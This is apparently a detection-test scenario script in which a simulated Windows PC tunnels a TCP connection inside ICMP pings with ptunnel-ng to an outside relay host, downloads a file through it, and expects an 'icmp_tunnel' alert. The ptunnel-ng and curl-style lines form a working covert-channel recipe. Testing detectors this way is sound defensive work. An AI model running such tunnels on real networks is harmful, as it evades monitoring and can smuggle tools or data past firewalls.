# what: a PC carries a TCP connection out inside pings (twin: ping_check)
# real: ptunnel-ng on both sides, curl through it, nginx
# packages: ptunnel-ng nginx-light
outside 51.79.150.24 relay.example; web net 51.79.150.24 relay.example
head -c 30000 /dev/urandom >$W/www/tool.bin
on net sysctl -qw net.ipv4.icmp_echo_ignore_all=1 # the tunnel answers the pings, not the kernel
ip -n net route change default via 100.64.0.1 src 51.79.150.24
bg net ptunnel-ng -r51.79.150.24 -R80
host EIGYO-NOTE windows
bg EIGYO-NOTE ptunnel-ng -p51.79.150.24 -l8000 -r51.79.150.24 -R80
sleep 2
get EIGYO-NOTE -m 20 http://127.0.0.1:8000/tool.bin || fail "nothing came through the tunnel"
alert icmp_tunnel act_now EIGYO-NOTE
